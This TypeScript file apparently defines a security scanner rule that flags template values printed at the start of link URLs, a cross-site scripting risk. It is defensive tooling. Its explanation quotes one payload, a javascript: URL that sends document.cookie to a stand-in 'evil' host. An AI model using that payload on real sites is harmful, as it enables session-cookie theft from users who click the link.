import { definePatternRule } from "../pattern-rule.ts";

export const templateUrlInjection = definePatternRule({
  hazard: "template-url-injection",
  category: "security",
  title: "Template value at the start of a link's URL",
  severity: "med",
  confidence: "low",
  lifecycle: "preview",
  cwe: [79],
  controls: ["SAST-XSS-01"],
  fixable: false,
  docs: {
    summary:
      'A template (Jinja2, Django, Nunjucks, Swig, Handlebars, Mustache, EJS) prints a value as the start of an `href`, `action`, `formaction` or `xlink:href` attribute (`<a href="{{ website }}">`, `<a href="<%= link %>">`), so the value chooses the URL\'s scheme. A fixed start (`href="/users/{{ id }}"`) and the engines\' URL builders and encoders (`url_for`, `static`, `urlencode`, `encodeURIComponent`, `encodeForURL`, which encode the colon) are not reported; `encodeURI` keeps `javascript:` and is.',
    whyItMatters:
      "HTML escaping, the template's default, leaves `javascript:fetch('//evil/'+document.cookie)` intact: a user who can set the value (a profile website, a link field) runs script in the browser of whoever clicks the link.",
    remediation:
      "Accept only `http:`/`https:` URLs when the value is saved (parse it with `new URL()` and check `protocol`), or build the link from a fixed prefix; escaping for HTML is not enough in a URL attribute.",
    example: '<a href="/profile/{{ userId }}">Profile</a>',
    references: [
      "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html#output-encoding-for-html-attribute-contexts",
    ],
  },
});
